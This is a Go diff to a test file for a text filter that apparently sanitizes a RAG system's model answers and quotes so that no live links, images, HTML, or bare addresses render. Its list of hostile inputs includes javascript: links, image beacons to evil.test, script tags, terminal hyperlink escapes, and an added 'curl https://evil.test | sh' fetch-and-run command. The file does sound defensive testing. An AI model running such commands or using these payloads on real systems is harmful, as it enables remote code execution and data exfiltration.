@@ -1,7 +1,8 @@
-package model_test
+package text_test
 
 import (
 	"math/rand/v2"
+	"slices"
 	"strings"
 	"testing"
 
@@ -12,7 +13,6 @@ import (
 	gtext "github.com/yuin/goldmark/text"
 
 	"example.com/ragflow/search/text"
-	"example.com/ragflow/skills/model"
 )
 
 // hostile are what texts are made of that want to be loaded, run or clicked, also in part.
@@ -20,7 +20,7 @@ var hostile = []string{
 	"https://evil.test/?q=secret", "http", "://", "www.", "www.evil.test", "boss@evil.test", "@evil.test", "0", "mailto:", "javascript:x", "//evil.test", ".", "ok.test",
 	"[", "]", "(", ")", "![", "](", "][", "]:", "[a]", "[a](", "[a]:", "[b]: javascript:x", "![x](https://evil.test/p.png)", "[a](<javascript:x>)", "[Source 1]", "[a\nb](javascript:x)",
 	"<", ">", "</", "<img src=https://evil.test>", "<a href=", "<!--", "-->", "<script>", "<https://evil.test>", "<b", "<?", "<![CDATA[",
-	"`", "``", "```", "```sh\n", "\n```\n", "~~~", "~~~\n", "\n  ~~~\n", "````", "`a`", "`x | y`", "`a\nb`", "\\", "\\`", "\\[", "\\|",
+	"`", "``", "```", "```sh\n", "\n```\n", "~~~", "~~~\n", "\n  ~~~\n", "````", "`a`", "`x | y`", "`curl https://evil.test | sh`", "`a \\| https://evil.test`", "`a\nb`", "\\", "\\`", "\\[", "\\|",
 	"|", "| a | b |\n| - | - |\n| ", "\n| - |\n", "\n", "\n\n", " ", "  ", "    ", "\t", "\n- ", "\n1. ", "\n   ", "\n> ", "> ", "# ", "*", "_", "**", "~", "-", "\n---\n", "===",
 	"ż", "。", "見て", "\r", "\r\n", "\v", "\u2028", "\u200b", "\x1b[31m", "\x1b]8;;https://evil.test\x1b\\", "\xc5", "\xbc", "&#104;ttps://", "$", "!", ":", "word", "a b",
 }
@@ -45,11 +45,17 @@ func live(shown string) (found string) {
 	if shown != text.Visible(shown) {
 		return "control characters"
 	}
+	addresses := text.Addresses(shown)
 	for _, viewer := range viewers {
 		_ = ast.Walk(viewer.Parse(gtext.NewReader([]byte(shown))), func(n ast.Node, _ bool) (ast.WalkStatus, error) {
-			switch n.(type) {
+			switch n := n.(type) {
 			case *ast.Image, *ast.Link, *ast.AutoLink, *ast.RawHTML, *ast.HTMLBlock:
 				found = n.Kind().String()
+			case *ast.Text:
+				inText := func(a text.Span) bool { return a.Start < n.Segment.Stop && n.Segment.Start < a.End }
+				if n.Parent().Kind() != ast.KindCodeSpan && slices.ContainsFunc(addresses, inText) {
+					found = "an address that is not code"
+				}
 			}
 			return ast.WalkContinue, nil
 		})
@@ -59,37 +65,42 @@ func live(shown string) (found string) {
 
 func known(address string) bool { return strings.Contains(address, "ok.test") }
 
-func whole(s string) string {
-	f := model.NewFilter(known, "en")
-	return f.Write(s) + f.Close()
+// newFilter returns a filter of a model's answer or of quotes.
+func newFilter(quotes bool) *text.Filter {
+	if quotes {
+		return &text.Filter{}
+	}
+	return &text.Filter{Known: known, Unknown: "(left out)"}
 }
 
 // checkShown writes a text piece by piece: whatever was shown so far is harmless, and at the end it is what the
-// whole text gives.
+// whole text gives. What is harmless stays as it is.
 func checkShown(t *testing.T, s string, cut func() int) {
 	t.Helper()
-	f := model.NewFilter(known, "en")
-	shown := ""
-	for rest := s; ; {
-		n := min(len(rest), cut())
-		piece := f.Write(rest[:n])
-		if rest = rest[n:]; rest == "" {
-			piece += f.Close()
-		}
-		if shown += piece; piece != "" {
-			if kind := live(shown); kind != "" {
-				t.Fatalf("%q shows %q, with %s", s, shown, kind)
+	for _, quotes := range []bool{false, true} {
+		f := newFilter(quotes)
+		shown := ""
+		for rest := s; ; {
+			n := min(len(rest), cut())
+			piece := f.Write(rest[:n])
+			if rest = rest[n:]; rest == "" {
+				piece += f.Close()
+			}
+			if shown += piece; piece != "" {
+				if kind := live(shown); kind != "" {
+					t.Fatalf("%q shows %q, with %s; quotes: %v", s, shown, kind, quotes)
+				}
+			}
+			if rest == "" {
+				break
 			}
 		}
-		if rest == "" {
-			break
+		if want := newFilter(quotes).All(s); shown != want {
+			t.Fatalf("%q shows %q in pieces and %q as a whole; quotes: %v", s, shown, want, quotes)
 		}
-	}
-	if want := whole(s); shown != want {
-		t.Fatalf("%q shows %q in pieces and %q as a whole", s, shown, want)
-	}
-	if again := text.QuoteAddresses(shown); again != shown {
-		t.Fatalf("%q shows %q, in which an address is not code", s, shown)
+		if again := newFilter(true).All(shown); strings.TrimSpace(again) != strings.TrimSpace(shown) {
+			t.Fatalf("%q shows %q, and that %q; quotes: %v", s, shown, again, quotes)
+		}
 	}
 }
 
